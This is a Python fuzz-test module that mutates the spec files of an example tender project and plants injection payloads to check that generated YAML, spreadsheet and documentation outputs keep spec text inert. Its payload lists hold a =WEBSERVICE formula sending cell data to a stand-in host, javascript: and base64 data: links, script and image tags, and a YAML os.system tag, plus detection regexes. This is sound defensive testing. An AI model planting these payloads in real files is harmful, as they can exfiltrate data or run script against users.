"""Spec text: line and token mutations of the Lambeth project, the issue's payloads, and oracles.

One file of a copy of the example project (framework, value set, waste tender) is damaged the
way people and tools damage files (lines deleted, duplicated, swapped and re-indented, words
reversed or renamed, random bytes, odd Unicode, huge numbers), or has a payload of issue 8
planted in a title, a theory-of-change step or guidance prose: formulas (`=WEBSERVICE`), a link
split over two lines (`[x](java⏎script:...)`), raw HTML, U+2028 and U+FFFE.

Oracles: `svspec.check` gives diagnostics or a model, never an exception, and every diagnostic
renders; for a valid tender, the outputs are built in memory and must hold spec text as plain
text: the YAML template has no keys the blank bid does not have, the spreadsheet template no
formula, the guidance site no working `javascript:` link, no raw HTML payload, and a readable
`mkdocs.yml`.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import zipfile
from pathlib import Path

import yaml

import svspec
from svspec import model
from svspec.bids.layout import COMPUTED_COLUMNS, column_letter
from svspec.diagnostics import Severity
from tests.fuzz.common import LAMBETH, Context, render_all, yaml_facts
from tests.fuzz.harness import Case, Problems, rng_for

TARGET = "specs"
FILES = ("framework.svspec", "values-2026.svspec", "waste-2027.svspec")
TENDER = "waste-2027.svspec"

ODD_TEXT = [
    "\u00a0", "\u200b", "\ufeff", "\u202e", "\u2028", "\u0085", "\r", "\t", "\x00", "\x1b", "\x7f",
    "é", "£", "€", "😀", "ﬁ", "Ａ", "١٢٣", "²", "e\u0301", "\ud7ff", '"', '"""', "#", "%", ",", ":", "\\",
    "£,", "%%", "--", "..", "\n", "    ",
]
ODD_NUMBERS = [
    "9" * 40, "1e999", "£" + "9" * 30, "9" * 25 + "%", "0.00000000000001", "1,000,000,000,000,000,000",
    "0", "000", "£0", "0%", "100%", "101%", "0.5", "£999,999,999,999,999", "999999999999999", "1.",
    "2026-02-30", "9999-99-99", "1,00", "1,,000", "£.5", "5.5.5",
]
NAMES = re.compile(r"\b(LBL\d|jobs|safer|greener|skills|economic|social|environment|standard|credibility|"
                   r"lambeth|lambeth-proxies|local-job|Q1|Q2)\b")
# Issue 8 items 7, 9 and 11a: spec text that must stay plain text in every output.
TITLES = (
    '=WEBSERVICE(\\"http://x.example/?\\"&A1)', '=HYPERLINK(\\"http://x.example\\",\\"Click\\")', "+SUM(1)",
    "@SUM(1)", "Title\u2028bidder: Forged Ltd\u2028price: 1", "Title\ufffe", "<img src=http://x.example/t.gif>",
    "<a href=http://x.example/login>Sign in</a>", "<script>alert(1)</script>", "[x](javascript:alert(1))",
    "{{ 7*7 }}", "Title\u2029x", "Title\x85x", "--- !!python/object:os.system", "Title # not a comment",
)
PROSE = (
    "[x](java\nscript:alert(1))", "[x]\n(javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "<img src=http://x.example/t.gif>", "<a href=http://x.example/login>Sign in</a>",
    "<script>alert(1)</script>", "```mermaid\ngraph TD; A-->B\n```", "=WEBSERVICE(\"http://x.example\")",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "![t](http://x.example/t.gif)",
    "line\u2028bidder: Forged Ltd", "text\ufffe", "<!-- -->", "{% raw %}{{ 7*7 }}",
)
class _ConfigLoader(yaml.SafeLoader):
    """mkdocs.yml names Python functions with `!!python/name:` tags: read them as plain text."""


_ConfigLoader.add_multi_constructor("tag:yaml.org,2002:python/", lambda loader, suffix, node: suffix)
_ConfigLoader.add_multi_constructor("!", lambda loader, suffix, node: suffix)
# An unescaped `](javascript:` on one line of the Markdown (an escaped `\]` is text, and `]` at a line's
# end then `(` on the next is no link in Python-Markdown, which MkDocs uses: the HTML check below decides) ...
_COMPUTED = {column_letter(c).encode() for c in COMPUTED_COLUMNS}
"""The template's computed columns (words, £ value, points), the only ones it writes formulas in."""
_LINK = re.compile(r"(?<!\\)\][ \t]*\(\s*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:", re.IGNORECASE)
# ... or such a link in the HTML the Markdown becomes, as a browser reads its href.
_HREF = re.compile(r"<a\b[^>]*\bhref\s*=\s*[\"']?\s*(javascript|data|vbscript)\s*:", re.IGNORECASE)
_RAW_HTML = re.compile(r"<(img|a|script)\b[^>]*(x\.example|alert)", re.IGNORECASE)


def _mutate_once(rng: random.Random, text: str) -> str:
    lines = text.split("\n")
    i, j = rng.randrange(len(lines)), rng.randrange(len(lines))
    line = lines[i]
    at = rng.randrange(len(line) + 1)
    match rng.randrange(12):
        case 0:
            del lines[i]
        case 1:
            lines.insert(i, lines[j])
        case 2:
            lines[i], lines[j] = lines[j], lines[i]
        case 3:
            lines[i] = line[:at] + "".join(chr(rng.randrange(256)) for _ in range(rng.randrange(1, 6))) + line[at:]
        case 4:
            lines[i] = line[:at] + rng.choice(ODD_TEXT) + line[at:]
        case 5:
            numbers = list(re.finditer(r"£?\d[\d,.]*%?", line))
            if numbers:
                m = rng.choice(numbers)
                lines[i] = line[: m.start()] + rng.choice(ODD_NUMBERS) + line[m.end():]
            else:
                lines[i] = line + " " + rng.choice(ODD_NUMBERS)
        case 6:
            lines[i] = line[:at] + line[at + 1:]
        case 7:
            lines[i] = " " * rng.randrange(0, 11) + line.lstrip()
        case 8:
            words = line.split(" ")
            k = rng.randrange(len(words))
            words[k] = words[k][::-1]
            lines[i] = " ".join(words)
        case 9:
            found = NAMES.findall(text)
            if found:
                lines[i] = line.replace(rng.choice(found), rng.choice(found))
        case 10:
            lines[i:i] = lines[j:j + rng.randrange(1, 8)]
        case _:
            lines[i] = line[:at]
    return "\n".join(lines)


def mutate(rng: random.Random, text: str) -> bytes:
    """One to three damages to `text`, encoded as UTF-8 (or now and then as something else)."""
    for _ in range(rng.randrange(1, 4)):
        text = _mutate_once(rng, text)
    roll = rng.random()
    if roll < 0.03:
        return text.encode("latin-1", errors="replace")
    if roll < 0.05:
        return text.encode("utf-16")
    if roll < 0.07:
        return bytes(rng.randrange(256) for _ in range(rng.randrange(0, 400)))
    return text.encode("utf-8", errors="surrogatepass")


def plant(rng: random.Random, text: str) -> str:
    """Put one payload where spec authors write free text: a title, a step, or guidance prose."""
    lines = text.split("\n")
    titled = [i for i, line in enumerate(lines) if re.search(r'^\s*(measure|question|theme|outcome|tender|'
                                                              r'activity|impact|pathway)\b.*"[^"]+"', line)]
    prose = [i for i, line in enumerate(lines) if re.match(r"^\s*(guidance|why|summary|note):", line)]
    if titled and (not prose or rng.random() < 0.5):
        i = rng.choice(titled)
        lines[i] = re.sub(r'"[^"]+"', lambda _: f'"{rng.choice(TITLES)}"', lines[i], count=1)
    elif prose:
        i = rng.choice(prose)
        indent = lines[i][: len(lines[i]) - len(lines[i].lstrip())]
        key = lines[i].strip().split(":")[0]
        payload = rng.choice(PROSE)
        if "\n" in payload or rng.random() < 0.3:
            body = [indent + "  " + part for part in payload.split("\n")]
            lines[i:i + 1] = [f'{indent}{key} """', *body, indent + '  """']
        else:
            lines[i] = f"{indent}{key}: {payload}" + rng.choice(["", "  # a comment after the prose"])
    return "\n".join(lines)


def prepare(context: Context) -> None:
    """Copy the example project into the work folder: the spec target damages one file at a time."""
    folder = context.work / "project"
    folder.mkdir(exist_ok=True)
    (folder / "svspec.toml").write_text("[project]\nname = 'fuzz'\n", encoding="utf-8")
    for name in FILES:
        shutil.copyfile(LAMBETH / name, folder / name)
    context.extra["project"] = folder
    context.extra["originals"] = {name: (LAMBETH / name).read_text(encoding="utf-8") for name in FILES}


def generate(seed: int, index: int, context: Context) -> Case:
    """One damaged spec file (named as the file it replaces)."""
    rng = rng_for(TARGET, seed, index)
    name = rng.choice(FILES)
    text = context.extra["originals"][name]
    if rng.random() < 0.4:
        data = plant(rng, text).encode("utf-8", errors="surrogatepass")
        note = "payload"
    else:
        data = mutate(rng, text)
        note = "mutation"
    return Case(target=TARGET, seed=seed, index=index, name=name, data=data, note=note)


def examine(case: Case, context: Context, problems: Problems) -> None:
    """Check the project with one file replaced; build a valid tender's outputs in memory."""
    folder: Path = context.extra["project"]
    (folder / case.name).write_bytes(case.data)
    try:
        entries = [folder / TENDER] if case.name == TENDER else [folder / TENDER, folder / case.name]
        results = svspec.check(entries, project_warnings=case.index % 3 == 0)
        for result in results:
            if result.model is None and not any(d.severity is Severity.ERROR for d in result.diagnostics):
                problems.add("inconsistent", "no model and no error")
            render_all(result.diagnostics, dict(result.sources))
        tender = results[0].model
        if isinstance(tender, model.Tender):
            _outputs(tender, case.index, context, problems)
    finally:
        (folder / case.name).write_text(context.extra["originals"][case.name], encoding="utf-8")


def _outputs(tender: model.Tender, index: int, context: Context, problems: Problems) -> None:
    from svspec.emit import schema, scoring_model, templates, xlsx

    schema.schema_text(tender)
    scoring_model.scoring_json(tender)
    scoring_model.standalone(tender)
    templates.json_template(tender)
    try:
        template = yaml.safe_load(templates.yaml_template(tender))
    except yaml.YAMLError as error:
        problems.add("injection", f"the YAML template is not readable YAML: {error}")
        template = None
    facts = yaml_facts(templates.yaml_template(tender))
    if facts is not None and facts.duplicates:
        problems.add("injection", f"the YAML template holds the key '{facts.duplicates[0][:30]}' twice")
    if isinstance(template, dict) and set(template) - set(templates.blank_bid(tender)):
        extra = sorted(set(template) - set(templates.blank_bid(tender)))
        problems.add("injection", f"the YAML template holds keys the blank bid does not: {extra[:3]}")
    if index % 4 == 0:
        with zipfile.ZipFile(io.BytesIO(xlsx.workbook_bytes(tender))) as archive:
            for member in archive.namelist():
                formula_cells = re.findall(rb'<c r="([A-Z]+)\d+"[^>]*>(?:(?!</c>).)*?<f[ >]([^<]*)',
                                           archive.read(member))
                if member.startswith("xl/worksheets/") and any(
                        column not in _COMPUTED or b'"' in re.sub(rb'"(?:| |Yes)"', b"", formula)
                        for column, formula in formula_cells):
                    problems.add("injection", f"the spreadsheet template {member} holds a formula outside the "
                                              "computed columns, or one with text in it")
    if index % 10 == 0:
        _site(tender, context, problems)


def _html(text: str) -> str:
    """The page as HTML, by the Markdown library MkDocs uses, with entities decoded as a browser would."""
    import html

    import markdown  # type: ignore[import-untyped]

    return html.unescape(markdown.markdown(text, extensions=["tables", "attr_list"]))


def _site(tender: model.Tender, context: Context, problems: Problems) -> None:
    from svspec.emit.site import generate

    site = context.work / "site"
    result = generate(tender, site)
    render_all(result.diagnostics)
    if not result.ok:
        return
    try:
        yaml.load((site / "mkdocs.yml").read_text(encoding="utf-8"), Loader=_ConfigLoader)
    except (yaml.YAMLError, UnicodeDecodeError) as error:
        problems.add("injection", f"the generated mkdocs.yml is unreadable: {type(error).__name__}")
    for page in sorted((site / "docs").rglob("*.md")):
        text = page.read_text(encoding="utf-8")
        if _LINK.search(text) or _HREF.search(_html(text)):
            problems.add("injection", f"site page {page.name}: a javascript: or data: link")
        if _RAW_HTML.search(text):
            problems.add("injection", f"site page {page.name}: raw HTML from the spec")
